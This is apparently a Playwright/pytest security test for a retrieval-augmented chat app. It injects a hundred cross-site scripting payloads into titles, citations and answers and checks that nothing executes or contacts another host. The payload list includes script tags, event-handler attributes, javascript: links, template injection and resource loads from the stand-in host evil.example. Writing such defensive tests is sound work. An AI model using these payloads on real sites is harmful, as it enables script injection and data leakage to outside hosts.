"""A hundred texts that want to run, in titles, texts, publishers, citations and answers, shown by the chat page, the
document viewer and the embedded chat in real Chromium: none runs, none becomes an element, none calls another host.
"""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import replace
from itertools import product
from typing import Any

import pytest
from fake_assistant import FakeAssistant, cite, make_document, make_hit

from rag.types import Answer
from tests.browser.test_embed import SECRET, Host, host
from tests.browser.visit import served
from tests.conftest import Figure

pytestmark = [pytest.mark.browser, pytest.mark.long]

RUN = "window.hacked=1"
ELEMENTS = [
    f"<script>{RUN}</script>", f"<img src=x onerror={RUN}>", f"<svg onload={RUN}>", f"<body onload={RUN}>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'>", f"<details open ontoggle={RUN}>x</details>",
    f"<video><source onerror={RUN}></video>", f"<math><mtext><img src=x onerror={RUN}></mtext></math>",
    f"<a href=\"javascript:{RUN}\">x</a>", f"<form action=\"javascript:{RUN}\"><button>x</button></form>",
    f"<input autofocus onfocus={RUN}>", f"<marquee onstart={RUN}>x</marquee>",
    "<img src='http://evil.example/p?q=1'>", "<link rel=stylesheet href='http://evil.example/s.css'>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>", "<base href='http://evil.example/'>",
    f"<object data='javascript:{RUN}'></object>", "<style>@import 'http://evil.example/s.css';</style>",
    f"<template><script>{RUN}</script></template>", "![x](http://evil.example/p.png?q=bí-mật)",
    f"[x](javascript:{RUN})", f"{{{{constructor.constructor('{RUN}')()}}}}", f"${{{RUN}}}",
    "<gradio-app src='http://evil.example/'></gradio-app>", f"<button data-ask=\"x\" onclick={RUN}>x</button>",
]  # fmt: skip
WRAPPERS = ["{}", '">{}', "'>{}", "</textarea></title></script>{}"]
PAYLOADS = [wrapper.replace("{}", element) for element, wrapper in product(ELEMENTS, WRAPPERS)]
AT_ONCE = 10


def hostile(payloads: list[str]) -> tuple[Answer, Any]:
    """An answer and its document, made of such texts alone."""
    title = payloads[0]
    text = "\n".join([title, *payloads])
    document = make_document(text, title=title, document_id="xấu", version="v1")
    document = replace(
        document, info=replace(document.info, publisher=payloads[1], author=payloads[2], url=payloads[3])
    )
    citations = tuple(
        replace(cite(document, payload, n), title=payload, publisher=payload) for n, payload in enumerate(payloads, 1)
    )
    answer = Answer(
        "x", "answered", "\n".join(f"- {p} [{n}]" for n, p in enumerate(payloads, 1)), payloads[4], citations,
        hits=(make_hit(document),), method="llm", understood=payloads[5], notes=(payloads[6],), confidence=0.9,
    )  # fmt: skip
    return answer, document


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[FakeAssistant, str, Host]]:
    fake = FakeAssistant()
    with host() as page:
        options = {"embed_origins": page.origin, "embed_secret": SECRET, "limit_questions": 0, "limit_requests": 0}
        options["store"] = tmp_path_factory.mktemp("attacks")
        with served(fake, **options) as address:
            page.point_to(address, page.origin)
            yield fake, address, page


def test_there_are_a_hundred() -> None:
    assert len(set(PAYLOADS)) == 100


@pytest.mark.parametrize("at", range(0, 100, AT_ONCE))
def test_nothing_runs(browser: Any, world: tuple[FakeAssistant, str, Host], at: int, figure: Figure) -> None:
    fake, address, page_host = world
    payloads = PAYLOADS[at : at + AT_ONCE]
    question = f"tấn công {at}"
    answer, document = hostile(payloads)
    fake.answers[question] = answer
    fake.documents.append(document)
    context = browser.new_context()
    foreign: list[str] = []
    dialogs: list[str] = []
    own = (address, page_host.origin, "data:", "blob:", "about:")

    def watch(page: Any) -> None:
        page.on("request", lambda r: None if r.url.startswith(own) else foreign.append(r.url))
        page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))

    context.on("page", watch)
    try:
        chat = context.new_page()
        chat.goto(address)
        chat.wait_for_selector(".welcome")
        chat.fill("#question textarea", question)
        chat.keyboard.press("Enter")
        chat.wait_for_selector("#now .exchange.done", timeout=60_000)
        viewer = context.new_page()
        viewer.goto(f"{address}/documents/xấu/v1?start=0&end=40")
        host_page = context.new_page()
        host_page.goto(page_host.origin)
        host_page.get_by_role("button", name="Hỏi đáp văn bản").click()
        host_page.wait_for_selector("news-rag-chat iframe")
        host_page.wait_for_timeout(1500)
        frame = next(f for f in host_page.frames if "/embed/chat" in f.url)
        frame.fill("#question", question)
        frame.press("#question", "Enter")
        frame.wait_for_selector(".exchange:not([aria-busy]) .source", timeout=60_000)
        for shown in (chat, viewer, frame):
            assert shown.evaluate("typeof window.hacked") == "undefined"
            assert (
                shown.evaluate(
                    "document.querySelectorAll('main img, .exchange img, .exchange iframe, .exchange form[action], "
                    "article script, article style, article svg[onload], .exchange base, .exchange object').length"
                )
                == 0
            )
        assert dialogs == []
        assert foreign == []
        figure("hostile texts shown in three pages, none ran or asked another host", len(payloads), 3 * len(payloads))
    finally:
        context.close()
        fake.documents.remove(document)
